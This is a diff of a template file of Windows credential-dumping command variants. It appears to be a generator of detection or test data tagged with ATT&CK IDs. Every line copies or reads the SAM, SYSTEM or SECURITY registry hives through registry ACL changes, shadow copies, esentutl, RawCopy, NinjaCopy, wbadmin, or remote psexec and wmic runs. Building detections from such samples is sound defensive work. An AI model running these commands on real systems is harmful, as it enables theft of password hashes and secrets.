@@ -41,7 +41,7 @@ reg-bootkey-hashes powershell: Get-UserKeys | % { Get-UserHashes $_ $hbootkey } 
 reg-acl-regini cmd: regini ‹dir›\‹name›.txt & reg query HKLM\SAM\SAM
 reg-acl-subinacl cmd: «subinacl¦subinacl.exe» /«subkeyreg¦keyreg» HKEY_LOCAL_MACHINE\SAM\SAM /grant=«‹user›¦administrators»=f
 reg-acl-setacl cmd: «setacl¦SetACL.exe¦‹dir›\SetACL64.exe» -on "HKLM\SAM\SAM\Domains" -ot reg -actn «ace -ace "n:‹user›;p:read"¦setowner -ownr "n:administrators"»
-reg-acl-setacl-security cmd +T1003.004: «setacl.exe¦subinacl.exe» -on "HKLM\SECURITY\Policy\Secrets" -ot reg -actn ace -ace "n:‹user›;p:full"
+reg-acl-setacl-security cmd +T1003.004: «setacl.exe¦SetACL.exe» -on "HKLM\SECURITY\Policy\Secrets" -ot reg -actn ace -ace "n:‹user›;p:full"
 reg-acl-ps powershell: $a = Get-Acl HKLM:\SAM\SAM; $a.AddAccessRule((New-Object System.Security.AccessControl.RegistryAccessRule '‹user›','«FullControl¦ReadKey»','ContainerInherit','None','Allow')); $a | Set-Acl HKLM:\SAM\SAM
 reg-load-copy cmd: reg load HKU\‹name› ‹dir›\«SAM¦sam.hiv¦sam.save»
 reg-load-query cmd: reg load HKLM\‹name› ‹dir›\SAM & reg query HKLM\‹name›\SAM\Domains\Account\Users /s
@@ -61,11 +61,11 @@ vssadmin-list-copy cmd: vssadmin list shadows & «copy¦xcopy /y¦esentutl /y» 
 vssadmin-copy-delete cmd: copy ‹vss›\Windows\System32\config\SAM ‹file› & vssadmin delete shadows /for=C: /quiet
 vssadmin-remote cmd: wmic /node:‹server› process call create "cmd /c vssadmin create shadow /for=C: & copy ‹vss›\Windows\System32\config\SAM C:\‹name›"
 vssadmin-psexec cmd: psexec \\‹server› -s cmd /c "vssadmin create shadow /for=C: && copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» C:\‹name›"
-vss-ps-cmd powershell: cmd /c «copy¦mklink /d ‹dir›\‹name›¦type» ‹vss›\Windows\System32\config\SAM ‹dir›\‹name›
+vss-ps-cmd powershell: cmd /c «copy ‹vss›\Windows\System32\config\SAM ‹dir›\‹name›¦"type ‹vss›\Windows\System32\config\SAM > ‹dir›\‹name›"»
 vss-link-sam cmd: mklink /«d¦j» ‹dir›\‹name› ‹vss›\ & type ‹dir›\‹name›\Windows\System32\config\SAM > ‹file›
 vss-link-ps powershell: cmd /c mklink /d C:\‹name› "‹vss›\"; Copy-Item C:\‹name›\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
 vss-link-xcopy cmd: mklink /d C:\‹name› ‹vss›\ & xcopy /h C:\‹name›\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
-vss-subst cmd: subst «X¦Z»: ‹vss›\ & copy «X¦Z»:\Windows\System32\config\SAM ‹file›
+vss-subst cmd: «subst X: ‹vss›\ & copy X:\¦subst Z: ‹vss›\ & copy Z:\»Windows\System32\config\SAM ‹file›
 vss-time-unc cmd: copy "\\«localhost¦127.0.0.1¦‹server›»\C$\@GMT-2024.01.0‹n›-10.0‹n›.00\Windows\System32\config\«SAM¦SYSTEM»" ‹file›
 vss-smb-unix bash: smbclient //‹ip›/C$ -U '‹user›%‹pass›' -c 'get @GMT-2024.01.0‹n›-10.00.00/Windows/System32/config/«SAM¦SYSTEM» ‹name›'
 vss-cim powershell: Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'}; [IO.File]::Copy('‹vss›\Windows\System32\config\«SAM¦SYSTEM»', '‹dir›\‹name›')
@@ -75,11 +75,11 @@ vss-wmic-delete cmd: wmic shadowcopy call create Volume=C:\ && «esentutl /y¦co
 vss-wmic-node cmd: wmic /node:‹server› shadowcopy call create Volume='C:\' & copy \\‹server›\C$\‹name›\Windows\System32\config\SAM ‹file›
 vss-vshadow cmd: vshadow«.exe¦» -p «-nw ¦»C: & copy ‹vss›\Windows\System32\config\SAM ‹file›
 vss-vshadow-exec cmd: vshadow.exe -exec=‹dir›\‹name›.cmd C: & copy «Z¦X»:\Windows\System32\config\SAM ‹dir›
-vss-vshadow-mount cmd: vshadow -el={‹guid›},«X¦Z»: & xcopy «X¦Z»:\Windows\System32\config\SAM ‹dir›
+vss-vshadow-mount cmd: vshadow -el=‹guid›,«X: & xcopy X¦Z: & xcopy Z»:\Windows\System32\config\SAM ‹dir›
 vss-vshadow-ps powershell: & ‹dir›\vshadow.exe -p C:; cmd /c copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» ‹file›
 vss-vshadow-list cmd: vshadow -q & copy ‹vss›\Windows\System32\config\«SAM¦SYSTEM» ‹file›
-vss-own cmd: copy ‹config›\SAM ‹vss›\‹name› & copy ‹vss›\Windows\System32\config\SAM ‹file›
-diskshadow-script cmd: (echo set context persistent nowriters & echo add volume c: alias ‹name› & echo create & echo expose %‹name›% z:) > ‹name›.txt & diskshadow /s ‹name›.txt & copy z:\Windows\System32\config\SAM ‹dir›
+vss-own cmd: cscript «//nologo ¦»vssown.vbs /create «c ¦»& copy ‹vss›\Windows\System32\config\SAM ‹file›
+diskshadow-script cmd: (echo set context persistent nowriters & echo add volume c: alias cdrive & echo create & echo expose %cdrive% z:) > ‹name›.txt & diskshadow /s ‹name›.txt & copy z:\Windows\System32\config\SAM ‹dir›
 diskshadow-esentutl cmd: diskshadow.exe /s ‹file› & esentutl /y «z¦x»:\windows\system32\config\sam /d ‹file›
 diskshadow-robocopy cmd: diskshadow /s ‹dir›\‹name›.«txt¦dsh» & robocopy «z¦x¦p»:\Windows\System32\config ‹dir› SAM SYSTEM
 diskshadow-ps powershell: diskshadow /s ‹dir›\‹name›.«txt¦dsh»; Copy-Item «Z¦X»:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
@@ -89,31 +89,31 @@ esentutl-cmd cmd: cmd /c esentutl.exe /y /vss ‹config›\«SAM¦SYSTEM» /d �
 esentutl-ps powershell: esentutl«.exe¦» /y /vss «$env:windir¦C:\Windows»\System32\config\«SAM¦SYSTEM» /d ‹file›
 esentutl-short cmd: esentutl.exe /y ‹config›\SAM /vssrec ‹name› «. ¦»/d ‹file›
 esentutl-psexec cmd: psexec \\‹server› -s esentutl /y /vss C:\Windows\System32\config\SAM /d C:\‹name›
-copy-repair-xcopy cmd: «xcopy /y¦robocopy¦type¦move» «C:\Windows\Repair¦%windir%\repair¦%SystemRoot%\System32\config\RegBack»\SAM ‹file›
+copy-repair-xcopy cmd: «xcopy /y¦copy /y¦move» «C:\Windows\Repair¦%windir%\repair¦%SystemRoot%\System32\config\RegBack»\SAM ‹file›
 copy-repair-ps powershell: Copy-Item «$env:windir\repair\sam¦C:\Windows\System32\config\RegBack\SAM¦C:\Windows\Repair\SAM» ‹dir›
 copy-repair-unc cmd: copy \\‹server›\«c$\Windows\repair\sam¦admin$\repair\sam¦C$\Windows\System32\config\RegBack\SAM» ‹dir›
 copy-repair-type cmd: type C:\Windows\«System32\config\RegBack\SAM¦repair\sam» > ‹file›
 copy-repair-old cmd: copy C:\Windows.old\Windows\System32\config\«SAM¦RegBack\SAM» ‹file›
 copy-regback-both cmd: xcopy C:\Windows\System32\config\RegBack\«SAM ‹dir› & xcopy C:\Windows\System32\config\RegBack\SYSTEM ‹dir›¦S* ‹dir› & dir ‹dir›\SAM»
-copy-config-cmd cmd: cmd /c «copy¦xcopy /h¦type» ‹config›\SAM ‹file›
-copy-config-unc cmd: «copy¦robocopy¦xcopy» \\‹server›\«c$\Windows\System32\config\SAM¦admin$\System32\config\SAM» ‹dir›
+copy-config-cmd cmd: cmd /c «copy¦xcopy /h¦copy /b» ‹config›\SAM ‹file›
+copy-config-unc cmd: ««copy¦xcopy» \\‹server›\«c$\Windows\System32\config\SAM¦admin$\System32\config\SAM» ‹dir›¦robocopy \\‹server›\«c$\Windows\System32\config¦admin$\System32\config» ‹dir› SAM»
 copy-config-robocopy cmd: robocopy /b ‹config› ‹dir› SAM«¦ SYSTEM¦ SECURITY SYSTEM»
 copy-config-backup powershell: [IO.File]::«ReadAllBytes¦OpenRead¦Open»("C:\Windows\System32\config\SAM"«, 'Open', 'Read'¦»)
-copy-offline cmd: copy «D¦E¦F»:\Windows\System32\config\«SAM ‹dir› & copy «D¦E¦F»:\Windows\System32\config\SYSTEM ‹dir›¦SAM ‹file›»
+copy-offline cmd: «copy E:\Windows\System32\config\SAM ‹dir› & copy E:\Windows\System32\config\SYSTEM ‹dir›¦copy «D¦E¦F»:\Windows\System32\config\SAM ‹file›»
 copy-vhd powershell: Mount-«VHD¦DiskImage» -Path ‹dir›\‹name›.vhdx; Copy-Item «E¦F¦G»:\Windows\System32\config\SAM ‹dir›
 raw-copy-plain cmd: «RawCopy¦RawCopy64¦‹dir›\RawCopy64».exe /FileNamePath:«C:0¦‹config›\SAM» /OutputPath:‹dir› /OutputName:SAM
 raw-copy-two cmd: RawCopy«64¦».exe /FileNamePath:C:\WINDOWS\system32\config\SAM /OutputPath:‹dir› & RawCopy.exe /FileNamePath:C:\WINDOWS\system32\config\SYSTEM /OutputPath:‹dir›
 raw-copy-positional cmd: ‹dir›\RawCopy«64¦».exe C:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
 raw-copy-ps powershell: & ‹dir›\RawCopy«64¦».exe /FileNamePath:$env:windir\System32\config\SAM /OutputPath:$env:TEMP
 raw-copy-psexec cmd: psexec \\‹server› -c RawCopy.exe /FileNamePath:C:\Windows\System32\config\SAM /OutputPath:C:\Temp
-raw-handy cmd: forecopy_handy«.exe¦» -«f¦g¦r» «C:\Windows\System32\config\SAM ¦%SystemRoot%\System32\config\SAM »‹dir›
+raw-handy cmd: forecopy_handy«.exe¦» «-f C:\Windows\System32\config\SAM¦-f %SystemRoot%\System32\config\SAM¦-g» ‹dir›
 raw-handy-path cmd: ‹dir›\forecopy_handy.exe -f ‹config›\SAM ‹dir›
 raw-handy-cmd cmd: cmd /c forecopy_handy -f C:\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
-raw-handy-ps powershell: & ‹dir›\«forecopy_handy.exe -f¦hobocopy.exe¦HoboCopy.exe /y» C:\Windows\System32\config\SAM ‹dir›
+raw-handy-ps powershell: & ‹dir›\«forecopy_handy.exe -f C:\Windows\System32\config\SAM ‹dir›¦hobocopy.exe C:\Windows\System32\config ‹dir› SAM¦HoboCopy.exe /y C:\Windows\System32\config ‹dir› SAM»
 raw-hobocopy cmd: «hobocopy¦HoboCopy.exe¦hobocopy64.exe» «/full ¦/y ¦»C:\Windows\System32\config ‹dir› SAM
 raw-hobocopy-path cmd: ‹dir›\hobocopy.exe "C:\Windows\System32\config" "‹dir›" SAM SYSTEM
 raw-hobocopy-cmd cmd: cmd /c hobocopy /skipdenied ‹config› ‹dir› SAM
-raw-shadowspawn cmd: ShadowSpawn«.exe¦» C:\Windows\System32\config «Q¦Z»: robocopy «Q¦Z»: ‹dir› SAM SYSTEM
+raw-shadowspawn cmd: ShadowSpawn«.exe¦» C:\Windows\System32\config «Q: robocopy Q:¦Z: robocopy Z:» ‹dir› SAM SYSTEM
 raw-tsk bash: «icat -o 2048 ‹lfile› 4‹pid› > SAM¦fls -r ‹lfile› | grep config/SAM¦icat /dev/sda2 ‹pid› > ‹ldir›/SAM»
 raw-mount-ntfs bash: «ntfscat /dev/sda2 Windows/System32/config/SAM > ‹lfile›¦ntfscp /dev/sda2 Windows/System32/config/SAM¦mount -t ntfs-3g -o ro /dev/sda2 /mnt/‹word› && cp /mnt/‹word›/Windows/System32/config/SAM .»
 ninjacopy-import powershell: Import-Module «.\¦‹dir›\»Invoke-NinjaCopy.ps1; Invoke-NinjaCopy -Path C:\Windows\System32\config\«SAM¦SYSTEM» -LocalDestination ‹file›
@@ -122,7 +122,7 @@ ninjacopy-cmd cmd: powershell -ep bypass -c ". .\Invoke-NinjaCopy.ps1; Invoke-Ni
 ninjacopy-stealth powershell: Invoke-NinjaCopy -Path C:\Windows\System32\config\sam -ComputerName «(gc ‹name›.txt)¦‹server›,‹server›» -LocalDestination ‹dir›
 wbadmin-recover cmd: wbadmin start recovery -version:01/0‹n›/2024-10:00 -itemtype:File -items:C:\Windows\System32\config\«SAM¦SYSTEM» -recoverytarget:‹dir› -quiet
 wbadmin-include cmd: wbadmin start backup «-quiet ¦»-backuptarget:\\‹server›\‹project› -include:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM
-wbadmin-folder cmd: wbadmin start backup -backuptarget:«E¦F»: -include:C:\Windows\System32\config -quiet & copy «E¦F»:\WindowsImageBackup\SAM ‹dir›
+wbadmin-folder cmd: wbadmin start backup -backuptarget:E: -include:C:\Windows\System32\config -quiet & copy E:\WindowsImageBackup\SAM ‹dir›
 wbadmin-ps powershell: wbadmin start recovery -itemtype:File -items:C:\Windows\System32\config\SAM -recoverytarget:‹dir› -quiet
 wbadmin-cmd cmd: cmd /c "wbadmin start backup -backuptarget:E: -include:%SystemRoot%\System32\config\SAM -quiet"
 ntbackup-repair cmd: ntbackup backup systemstate /F ‹file› & «copy¦xcopy» C:\Windows\repair\«sam¦system» ‹dir›
